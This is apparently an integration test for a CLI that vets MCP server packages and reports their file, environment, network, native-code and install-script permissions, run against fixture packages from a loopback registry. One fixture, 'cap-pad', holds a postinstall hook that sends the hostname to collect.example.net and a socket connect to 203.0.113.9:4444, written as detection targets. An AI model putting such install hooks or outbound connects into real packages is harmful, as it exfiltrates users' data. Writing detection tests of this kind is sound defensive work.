/**
 * The permission surface end to end: fixture packages (install scripts, native code, a padding
 * library that opens sockets, files that do not parse) served from a loopback registry and vetted
 * through the built CLI as a process.
 */
import * as fsp from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { ROOT, runCli, type CliResult } from './helpers/cli.js';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startRegistry, type TestRegistry } from './helpers/registry.js';

const ELF = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), Buffer.alloc(64)]);

const PACKAGES = {
  'cap-server': {
    '1.0.0': {
      manifest: {
        main: 'index.js',
        dependencies: { 'cap-native': '1.0.0', 'cap-pad': '1.0.0' },
      },
      files: {
        'index.js': [
          "const fs = require('node:fs');",
          "const pad = require('cap-pad');",
          'module.exports.save = (p, s) => fs.writeFileSync(p, pad(s, 10));',
          'const root = process.env.ALLOWED_ROOT;',
        ].join('\n'),
        'server.json': JSON.stringify({
          name: 'io.example/cap-server',
          packages: [
            {
              registryType: 'npm',
              identifier: 'cap-server',
              transport: { type: 'stdio' },
              environmentVariables: [{ name: 'EXAMPLE_API_KEY', isSecret: true, isRequired: true }],
            },
          ],
        }),
      },
    },
  },
  'cap-native': {
    '1.0.0': {
      manifest: { main: 'index.js', scripts: { install: 'node-gyp rebuild' }, gypfile: true },
      files: {
        'index.js': "module.exports = require('./build/Release/addon.node');",
        'binding.gyp': '{ "targets": [ { "target_name": "addon", "sources": ["addon.cc"] } ] }',
        'build/Release/addon.node': ELF,
      },
    },
  },
  'cap-pad': {
    '1.0.0': {
      manifest: { main: 'index.js', scripts: { postinstall: 'node setup.js' } },
      files: {
        'index.js': [
          'module.exports = (s, n) => String(s).padStart(n);',
          "require('net').connect(4444, '203.0.113.9');",
        ].join('\n'),
        'setup.js': "require('https').get('https://collect.example.net/p?h=' + require('os').hostname());",
        // can touch a capability, so it is parsed: its syntax error is reported
        'broken.js': "const cp = require('child_process'); function (",
        // provably touches none (pre-filter): not parsed, so nothing to report
        'inert-broken.js': 'function (',
        'fake.js': ELF,
        'nested.js': `x = process.env.HOME + ${'('.repeat(50_000)}1${')'.repeat(50_000)};`,
      },
    },
  },
};

let registry: TestRegistry;
let tmp: string;

beforeAll(async () => {
  registry = await startRegistry({ packages: PACKAGES });
  tmp = await fsp.mkdtemp(path.join(os.tmpdir(), 'mcp-vet-caps-'));
  await fsp.writeFile(path.join(tmp, 'user.npmrc'), '');
});

afterAll(async () => {
  await registry?.close();
  if (tmp) await fsp.rm(tmp, { recursive: true, force: true });
});

function cli(args: string[], cacheDir: string): Promise<CliResult> {
  return runCli(
    [
      ...args,
      '--registry',
      registry.url,
      '--cache-dir',
      cacheDir,
      '--userconfig',
      path.join(tmp, 'user.npmrc'),
    ],
    { cwd: tmp, env: { MCP_VET_OSV_DB: path.join(ROOT, 'test', 'fixtures', 'osv', 'records') } },
  );
}

interface Entry {
  package: string;
  own?: boolean;
  evidence: Array<{ file: string; line: number; api: string }>;
  names?: string[];
  hosts?: string[];
}

describe('vet: permissions', () => {
  it('reports the permission surface, own package apart from dependencies, deterministically and cached', async () => {
    const cacheDir = path.join(tmp, 'cache');
    const first = await cli(['vet', 'cap-server@1.0.0', '--format', 'json'], cacheDir);
    expect(first.stderr).toBe('');
    expect(first.code).toBe(0);
    const report = JSON.parse(first.stdout) as {
      servers: Array<{
        permissions: {
          own: string[];
          dependencies: string[];
          capabilities: Record<string, Entry[]>;
          declared: { env: unknown[]; transports: string[] };
          analysis: { packages: number; unanalysedFiles: number };
        };
        findings: Array<{ rule: string; severity: string; package?: string; message: string }>;
      }>;
    };
    const s = report.servers[0]!;
    const p = s.permissions;
    expect(p.own).toEqual(['fs-write', 'env']);
    expect(p.dependencies).toEqual(['network', 'native-code', 'install-scripts', 'urls']);
    const who = (cap: string): string[] =>
      (p.capabilities[cap] ?? []).map((e) => `${e.package}${e.own ? ' (own)' : ''}`);
    expect(who('fs-write')).toEqual(['cap-server (own)']);
    expect(who('network')).toEqual(['cap-pad']);
    // cap-pad's fake.js is an ELF binary with a .js name: native code too
    expect(who('native-code')).toEqual(['cap-native', 'cap-pad']);
    expect(who('install-scripts')).toEqual(['cap-native', 'cap-pad']);
    expect(p.capabilities['fs-write']![0]!.evidence).toEqual([
      { file: 'index.js', line: 3, api: 'fs.writeFileSync' },
    ]);
    expect(p.capabilities.env![0]!.names).toEqual(['ALLOWED_ROOT']);
    expect(p.capabilities['native-code']![0]!.evidence.map((e) => `${e.file}:${e.line} ${e.api}`)).toEqual([
      'binding.gyp:0 binding.gyp (node-gyp build)',
      'build/Release/addon.node:0 native addon (.node)',
      'index.js:1 require("./build/Release/addon.node")',
    ]);
    expect(p.capabilities['install-scripts']!.map((e) => e.evidence[0]!.api)).toEqual([
      'install: node-gyp rebuild',
      'postinstall: node setup.js',
    ]);
    expect(p.capabilities.network![0]!.evidence.map((e) => e.api)).toEqual(['net.connect', 'https.get']);
    expect(p.capabilities.urls![0]!.hosts).toEqual(['203.0.113.9', 'collect.example.net']);
    expect(p.declared.env).toEqual([
      { name: 'EXAMPLE_API_KEY', secret: true, required: true, source: 'server.json' },
    ]);
    expect(p.declared.transports).toEqual(['stdio']);
    expect(p.analysis.unanalysedFiles).toBe(3);

    const rules = s.findings.map((f) => `${f.severity} ${f.rule} ${f.package}`);
    expect(rules).toEqual(
      expect.arrayContaining([
        'low dependency-native-code cap-native',
        'low unanalysed-code cap-pad',
        'info dependency-network cap-pad',
      ]),
    );
    const unanalysed = s.findings.find((f) => f.rule === 'unanalysed-code')!;
    expect(unanalysed.message).toMatch(/broken\.js \(syntax/);
    expect(unanalysed.message).toMatch(/fake\.js \(binary/);
    expect(unanalysed.message).toMatch(/nested\.js \(too-deep/);

    // results are cached by integrity, and a second run reports exactly the same surface
    const cached = await fsp.readdir(path.join(cacheDir, 'capabilities'));
    expect(cached.filter((f) => /^sha512-[0-9a-f]{128}\.json$/.test(f))).toHaveLength(3);
    const second = await cli(['vet', 'cap-server@1.0.0', '--format', 'json'], cacheDir);
    const again = JSON.parse(second.stdout) as typeof report;
    expect(again.servers[0]!.permissions).toEqual(p);
    expect(second.stdout).not.toContain(tmp);

    // the text report summarises it
    const text = await cli(['vet', 'cap-server@1.0.0', '--format', 'text'], cacheDir);
    expect(text.stdout).toContain('capabilities of its own code: fs-write, env');
    expect(text.stdout).toContain('declared (server.json): env EXAMPLE_API_KEY (secret)');
  });

  it('--no-capabilities skips the code analysis but keeps declared permissions', async () => {
    const cacheDir = path.join(tmp, 'cache-nocaps');
    const r = await cli(['vet', 'cap-server@1.0.0', '--format', 'json', '--no-capabilities'], cacheDir);
    expect(r.code).toBe(0);
    const p = (JSON.parse(r.stdout) as { servers: Array<{ permissions: Record<string, unknown> }> })
      .servers[0]!.permissions;
    expect(p.capabilities).toEqual({});
    expect((p.declared as { env: unknown[] }).env).toHaveLength(1);
    await expect(fsp.readdir(path.join(cacheDir, 'capabilities'))).rejects.toThrow();
  });

  it('refuses a cached tarball changed on disk instead of analysing it', async () => {
    const cacheDir = path.join(tmp, 'cache-tampered');
    const first = await cli(['vet', 'cap-server@1.0.0', '--format', 'json', '--no-capabilities'], cacheDir);
    expect(first.code).toBe(0);
    const entries = await fsp.readdir(path.join(cacheDir, 'packages'));
    for (const e of entries) {
      const tgz = path.join(cacheDir, 'packages', e, '.mcp-vet.tgz');
      const bytes = await fsp.readFile(tgz);
      bytes[bytes.length - 5] = bytes[bytes.length - 5]! ^ 0xff;
      await fsp.writeFile(tgz, bytes);
    }
    const r = await cli(['vet', 'cap-server@1.0.0', '--format', 'json'], cacheDir);
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/E_INTEGRITY: the cached tarball sha512-[0-9a-f]+ no longer matches its digest/);
    expect(r.stderr).not.toMatch(/\n\s+at /);
  });
});
